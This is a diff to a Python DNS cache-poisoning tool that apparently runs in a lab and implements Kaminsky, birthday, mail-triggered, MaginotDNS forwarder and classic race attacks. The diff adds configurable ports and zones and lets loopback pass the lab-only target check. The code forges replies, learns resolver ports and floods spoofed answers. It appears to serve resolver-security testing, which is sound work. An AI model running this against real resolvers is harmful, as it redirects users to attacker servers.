@@ -14,8 +14,8 @@ reaches the attacker's own server), `forwarder` (MaginotDNS: race the resolver's
 to its conditional forwarder with an answer that also carries the victim zone's NS set)
 and `classic` (race `www.bank.example` itself: one try per TTL, as the real answer is
 cached otherwise). Prints one JSON object with the result.
-Must never: send to an address outside the lab (every target goes through
-`check_target`), or run without a packet and time budget.
+Must never: send to an address outside the lab's namespaces or loopback (every target
+goes through `check_target`), or run without a packet and time budget.
 """
 
 from __future__ import annotations
@@ -63,8 +63,14 @@ class AttackerJob:
     budget_seconds: float
     seed: int
     victim_zone: str = "bank.example."
+    attacker_zone: str = "attacker.example."
     attacker_ns: str = "ns.attacker.example."
     www: str = "www.bank.example."
+    resolver_port: int = 53
+    server_port: int = 53
+    """The port the real servers (victim, forwarder) answer on: the forged replies' source."""
+    """The port the resolver answers clients on (53 in the namespace lab; an audited
+    resolver on loopback may use another)."""
     stop_at_first_win: bool = False
     """Stop when a forged reply is first accepted (to measure the race alone)."""
     attack: str = "kaminsky"
@@ -114,7 +120,9 @@ class AttackerResult:
 
 
 def _in_lab(address: str) -> bool:
-    return ipaddress.ip_address(address) in LAB_SUBNET
+    """The lab's namespaces or loopback: the only places attack traffic may go."""
+    ip = ipaddress.ip_address(address)
+    return ip in LAB_SUBNET or ip.is_loopback
 
 
 ATTACKS = ("kaminsky", "birthday", "mail", "forwarder", "classic")
@@ -148,9 +156,10 @@ def forged_reply(qname: dns.name.Name, job: AttackerJob) -> bytes:
 class Client:
     """The attacker's own plain DNS client (it may query the resolver, as Kaminsky's could)."""
 
-    def __init__(self, source: str, resolver: str) -> None:
+    def __init__(self, source: str, resolver: str, port: int = 53) -> None:
         check_target(resolver, _in_lab)
         self.resolver = resolver
+        self.port = port
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self.sock.bind((source, 0))
 
@@ -170,7 +179,7 @@ class Client:
 
     def send(self, name: str, rdtype: str = "A") -> int:
         query = dns.message.make_query(name, rdtype)
-        self.sock.sendto(query.to_wire(), (self.resolver, 53))
+        self.sock.sendto(query.to_wire(), (self.resolver, self.port))
         return query.id
 
     def wait(self, txid: int, timeout: float) -> dns.message.Message | None:
@@ -211,9 +220,15 @@ def addresses(message: dns.message.Message | None, name: str) -> list[str]:
     )
 
 
-def learn_port(client: Client, log: Path, rng: random.Random, timeout: float = 3.0) -> int | None:
+def learn_port(
+    client: Client,
+    log: Path,
+    rng: random.Random,
+    timeout: float = 3.0,
+    zone: str = "attacker.example.",
+) -> int | None:
     """Make the resolver ask the attacker's zone; its source port is in the attacker's log."""
-    probe = f"p{rng.getrandbits(32):08x}.attacker.example."
+    probe = f"p{rng.getrandbits(32):08x}.{zone}"
     client.ask(probe, timeout=timeout)
     deadline = time.monotonic() + timeout
     while time.monotonic() < deadline:
@@ -241,7 +256,7 @@ def trigger_mail(job: AttackerJob, index: int, timeout: float = 3.0) -> bool:
     server (the A lookup of x<index>.bank.example follows: flood now)."""
     assert job.mail is not None
     check_target(job.mail, _in_lab)
-    domain = f"m{index}.attacker.example."
+    domain = f"m{index}.{job.attacker_zone}"
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.bind((job.attacker, 0))
         sock.sendto(domain.rstrip(".").encode(), (job.mail, 25))
@@ -275,7 +290,7 @@ def run(job: AttackerJob) -> AttackerResult:
         check_target(str(address), _in_lab)
     rng = random.Random(job.seed)
     result = AttackerResult(port=job.port)
-    client = Client(job.attacker, job.resolver)
+    client = Client(job.attacker, job.resolver, job.resolver_port)
     started = time.monotonic()
 
     def time_left() -> float:
@@ -283,13 +298,16 @@ def run(job: AttackerJob) -> AttackerResult:
 
     try:
         if result.port is None:
-            result.port = learn_port(client, Path(job.attacker_log), rng)
+            result.port = learn_port(client, Path(job.attacker_log), rng, zone=job.attacker_zone)
             result.port_learned = result.port is not None
         if result.port is None:
             result.note = "could not learn the resolver's query port"
             return result
         per_window = max(1, int(job.rate * job.window))
-        spoofers = [Spoofer((str(source), 53), job.resolver, allowed=_in_lab) for source in sources]
+        spoofers = [
+            Spoofer((str(source), job.server_port), job.resolver, allowed=_in_lab)
+            for source in sources
+        ]
         try:
             while result.packets < job.budget_packets and time_left() > 0:
                 if job.attack == "mail" and result.attempts >= job.mail_names:
